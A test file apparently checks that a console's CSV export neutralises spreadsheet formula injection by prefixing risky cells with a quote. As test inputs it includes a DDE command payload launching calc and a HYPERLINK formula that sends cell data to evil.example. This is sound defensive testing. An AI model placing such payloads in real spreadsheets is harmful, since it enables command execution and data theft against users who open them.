import { describe, expect, it } from 'vitest';
import { csvText, safeCell } from '../../console/src/exports/csv.ts';

// The console's CSV cells: nothing Excel or LibreOffice would run as a formula (OWASP's rule).

describe('a CSV cell', () => {
  it('starting with =, +, -, @, a tab or a carriage return gets a single quote in front', () => {
    expect(safeCell('=1+1')).toBe("'=1+1");
    expect(safeCell("+cmd|' /C calc'!A0")).toBe("'+cmd|' /C calc'!A0");
    expect(safeCell('-2+3')).toBe("'-2+3");
    expect(safeCell('@SUM(1+1)')).toBe("'@SUM(1+1)");
    expect(safeCell('\t=1+1')).toBe("'\t=1+1");
    expect(safeCell('\r=1+1')).toBe("'\r=1+1");
  });

  it('from numbers in the data too: -5 is written as the text -5', () => {
    expect(safeCell(-5)).toBe("'-5");
    expect(safeCell(-0.5)).toBe("'-0.5");
  });

  it('leaves plain text, numbers, phone numbers and empty values as they are', () => {
    expect(safeCell('홍길동')).toBe('홍길동');
    expect(safeCell('a=1')).toBe('a=1');
    expect(safeCell('010-1234-5678')).toBe('010-1234-5678');
    expect(safeCell(42)).toBe('42');
    expect(safeCell(null)).toBe('');
    expect(safeCell(undefined)).toBe('');
    expect(safeCell('')).toBe('');
    expect(safeCell(' =1')).toBe(' =1');
  });
});

describe('a CSV file', () => {
  it('starts with the byte-order mark, quotes only what needs it, and neutralises headers and cells alike', () => {
    const text = csvText(
      ['이름', '=메모'],
      [
        ['김, 민수', 'say "hi"'],
        ['=HYPERLINK("https://evil.example/?"&F2,"상세")', 'line\nbreak'],
      ],
    );
    expect(text).toBe(
      '\uFEFF' +
        "이름,'=메모\n" +
        '"김, 민수","say ""hi"""\n' +
        '"\'=HYPERLINK(""https://evil.example/?""&F2,""상세"")","line\nbreak"\n',
    );
  });
});
